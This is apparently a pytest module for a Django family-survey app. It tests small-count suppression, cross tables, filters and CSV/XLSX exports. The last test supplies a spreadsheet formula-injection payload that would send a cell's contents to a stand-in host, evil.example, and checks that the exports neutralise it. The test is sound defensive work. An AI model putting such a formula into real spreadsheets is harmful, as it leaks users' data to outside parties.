"""Results: hand-counted figures, small counts suppressed everywhere, no recovery by
subtraction, filters, cross tables, exports and the summary other apps use."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from familiennetz.participation import services
from familiennetz.participation.models import Question, Response
from familiennetz.participation.selectors import (
    Filters,
    aggregate_rows,
    survey_crosstab,
    survey_results,
    survey_results_summary,
)

from .factories import needs_survey, questions_by_kind

pytestmark = pytest.mark.django_db
Kind = Question.Kind


def answer(survey, q, *, district, wish, smiley=None, ages=(), number=None, text="", **kw):
    answers = {
        q[Kind.DISTRICT].pk: q[Kind.DISTRICT].options.get(key=district).pk,
        q[Kind.SINGLE].pk: q[Kind.SINGLE].options.get(key=wish).pk,
    }
    if smiley:
        answers[q[Kind.SMILEY].pk] = smiley
    if ages:
        answers[q[Kind.AGE].pk] = [q[Kind.AGE].options.get(key=a).pk for a in ages]
    if number is not None:
        answers[q[Kind.NUMBER].pk] = number
    if text:
        answers[q[Kind.TEXT].pk] = text
    return services.response_submit(survey=survey, answers=answers, language="de", **kw)


@pytest.fixture
def survey(alliance):
    """20 responses: Zentrum 12 (ja 9, nein 3), Ottendorf 6 (ja 2, nein 4), Bockendorf 2 (ja 2).
    Smileys: 5 ×8, 4 ×6, 3 ×4, 1 ×2. Numbers: 1 ×10, 2 ×8, 3 ×2."""
    survey = needs_survey(alliance)
    q = questions_by_kind(survey)
    plan = (
        [("zentrum", "ja")] * 9
        + [("zentrum", "nein")] * 3
        + [("ottendorf", "ja")] * 2
        + [("ottendorf", "nein")] * 4
        + [("bockendorf", "ja")] * 2
    )
    smileys = [5] * 8 + [4] * 6 + [3] * 4 + [1] * 2
    numbers = [1] * 10 + [2] * 8 + [3] * 2
    for i, (district, wish) in enumerate(plan):
        answer(
            survey,
            q,
            district=district,
            wish=wish,
            smiley=smileys[i],
            number=numbers[i],
            ages=["0-3", "3-6"] if i % 2 else ["0-3"],
            channel=Response.Channel.PAPER if i < 3 else Response.Channel.ONLINE,
        )
    survey.q = q
    return survey


def rows_of(results, kind):
    result = next(r for r in results.questions if r.kind == kind)
    return result, {row.key: row.count for row in result.rows}


def test_counts_per_answer_are_hand_counted_and_small_ones_hidden(survey):
    results = survey_results(survey=survey)
    assert results.respondents == 20
    # 3 on paper are hidden, and the 17 online with them: 20 − 17 would give the 3 back.
    assert results.by_channel == {"online": None, "paper": None}
    district, counts = rows_of(results, Kind.DISTRICT)
    # Bockendorf 2 is hidden, and Ottendorf (6, the smallest other) with it: otherwise
    # 20 − 12 − 6 would give the 2 back.
    assert district.answered == 20
    assert counts == {"bockendorf": None, "ottendorf": None, "zentrum": 12}
    wish, counts = rows_of(results, Kind.SINGLE)
    assert counts == {"ja": 13, "nein": 7}
    assert [round(row.share, 2) for row in wish.rows] == [0.65, 0.35]
    smiley, counts = rows_of(results, Kind.SMILEY)
    assert counts == {"1": None, "2": 0, "3": None, "4": 6, "5": 8}
    assert smiley.mean == pytest.approx((5 * 8 + 4 * 6 + 3 * 4 + 1 * 2) / 20)
    assert smiley.median == 4.0
    number, counts = rows_of(results, Kind.NUMBER)
    assert counts == {"1": 10, "2": None, "3": None}  # 2 hidden, and 8 as its complement
    assert number.mean == pytest.approx(1.6)


def test_ages_are_a_multiple_choice_of_respondents(survey):
    age, counts = rows_of(survey_results(survey=survey), Kind.AGE)
    assert age.answered == 20
    assert counts["0-3"] == 20 and counts["3-6"] == 10 and counts["6-10"] == 0


def _no_recovery(counts: dict, total: int | None, raw_total: int):
    """Nothing hidden can be worked out as total − the visible cells."""
    hidden = [key for key, value in counts.items() if value is None]
    if total is not None and hidden:
        assert len(hidden) >= 2, f"one hidden cell with the total shown: {counts}"
    assert sum(v for v in counts.values() if v is not None) <= raw_total


def test_no_hidden_count_can_be_recovered_by_subtraction(survey):
    results = survey_results(survey=survey)
    for result in results.questions:
        if not result.rows or result.is_multi:
            continue
        counts = {row.key: row.count for row in result.rows}
        _no_recovery(counts, result.answered, 20)
    # The same with every filter: each district, each language, each channel.
    for district in survey.q[Kind.DISTRICT].options.all():
        filtered = survey_results(survey=survey, filters=Filters(district=district.district_id))
        for result in filtered.questions:
            if result.rows and not result.is_multi:
                counts = {row.key: row.count for row in result.rows}
                _no_recovery(counts, result.answered, 20)


def test_filters_select_respondents(survey):
    q = survey.q
    ottendorf = q[Kind.DISTRICT].options.get(key="ottendorf").district_id
    _wish, counts = rows_of(
        survey_results(survey=survey, filters=Filters(district=ottendorf)), Kind.SINGLE
    )
    assert counts == {"ja": None, "nein": None}  # 2 and 4: both small
    results = survey_results(survey=survey, filters=Filters(channel="online"))
    assert results.respondents == 17
    results = survey_results(survey=survey, filters=Filters(age="3-6"))
    assert results.respondents == 10
    assert survey_results(survey=survey, filters=Filters(language="ar")).respondents == 0


def test_a_cross_table_is_suppressed_as_a_table(survey):
    q = survey.q
    table = survey_crosstab(
        survey=survey, row_question=q[Kind.DISTRICT], column_question=q[Kind.SINGLE]
    )
    assert table.rows == ["Bockendorf", "Ottendorf", "Zentrum"]
    assert table.columns == ["Ja", "Nein"]
    # Raw: Bockendorf 2/0, Ottendorf 2/4, Zentrum 9/3.
    cells = dict(zip(table.rows, table.cells, strict=True))
    assert cells["Bockendorf"] == [None, 0]
    assert cells["Ottendorf"][0] is None and cells["Ottendorf"][1] is None
    assert cells["Zentrum"][1] is None  # Zentrum/nein 3
    # No row or column has exactly one hidden cell while the others show.
    for values in table.cells:
        assert [v is None for v in values].count(True) != 1 or all(v in (None, 0) for v in values)
    for column in zip(*table.cells, strict=True):
        assert [v is None for v in column].count(True) != 1


def test_csv_export_writes_suppressed_counts_as_less_than_five(client, coordinator, survey):
    client.force_login(coordinator.user)
    url = reverse(
        "participation:manage-survey-results-csv",
        kwargs={"alliance_slug": survey.alliance.slug, "pk": survey.pk},
    )
    response = client.get(url)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["question", "answer", "count", "share"]
    bockendorf = next(r for r in rows if r[1] == "Bockendorf")
    assert bockendorf[2:] == ["<5", ""]
    ja = next(r for r in rows if r[0].startswith("3.") and r[1] == "Ja")
    assert ja[2:] == ["13", "0.6500"]
    # Filters apply to the export as on the page.
    ottendorf = survey.q[Kind.DISTRICT].options.get(key="ottendorf").district_id
    text = b"".join(client.get(f"{url}?ortsteil={ottendorf}").streaming_content).decode("utf-8-sig")
    assert "3. Wünschen Sie sich mehr Angebote am Nachmittag?;Ja;<5;" in text


def test_xlsx_export_has_the_same_rows(client, coordinator, survey):
    client.force_login(coordinator.user)
    url = reverse(
        "participation:manage-survey-results-xlsx",
        kwargs={"alliance_slug": survey.alliance.slug, "pk": survey.pk},
    )
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["question", "answer", "count", "share"]
    assert ["1. In welchem Ortsteil wohnen Sie?", "Bockendorf", "<5", None] in values


def test_raw_export_has_one_row_per_response_without_ids(client, coordinator, survey):
    client.force_login(coordinator.user)
    url = reverse(
        "participation:manage-survey-raw-csv",
        kwargs={"alliance_slug": survey.alliance.slug, "pk": survey.pk},
    )
    text = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 21
    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, 21)]
    assert rows[1][4] == "Zentrum" and "0–3 Jahre" in rows[2][5]


def test_the_summary_for_other_apps_is_suppressed(survey):
    summary = survey_results_summary(survey_id=survey.pk)
    assert summary["respondents"] == 20
    district = summary["questions"][0]
    assert {row["key"]: row["count"] for row in district["rows"]}["bockendorf"] is None
    assert aggregate_rows(survey_results(survey=survey, charts=False))[0][2] == "<5"


def test_the_results_page_reads_in_a_fixed_number_of_queries(
    client, coordinator, survey, django_assert_max_num_queries
):
    client.force_login(coordinator.user)
    url = reverse(
        "participation:manage-survey-results",
        kwargs={"alliance_slug": survey.alliance.slug, "pk": survey.pk},
    )
    with django_assert_max_num_queries(30):
        page = client.get(url)
    assert page.status_code == 200
    body = page.content.decode()
    assert "&lt;5" in body and "<svg" in body and "<caption" in body


def test_raw_exports_neutralise_formulas_in_free_text(client, coordinator, survey):
    """A parent's free text that a spreadsheet would run as a formula is exported inert."""
    q = questions_by_kind(survey)
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Klick")'
    answer(survey, q, district="zentrum", wish="ja", text=evil)
    client.force_login(coordinator.user)
    kwargs = {"alliance_slug": survey.alliance.slug, "pk": survey.pk}
    csv_url = reverse("participation:manage-survey-raw-csv", kwargs=kwargs)
    text = b"".join(client.get(csv_url).streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + evil in cells and evil not in cells

    xlsx_url = reverse("participation:manage-survey-raw-xlsx", kwargs=kwargs)
    sheet = load_workbook(io.BytesIO(client.get(xlsx_url).content)).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil]
    assert found and all(cell.data_type == "s" for cell in found)
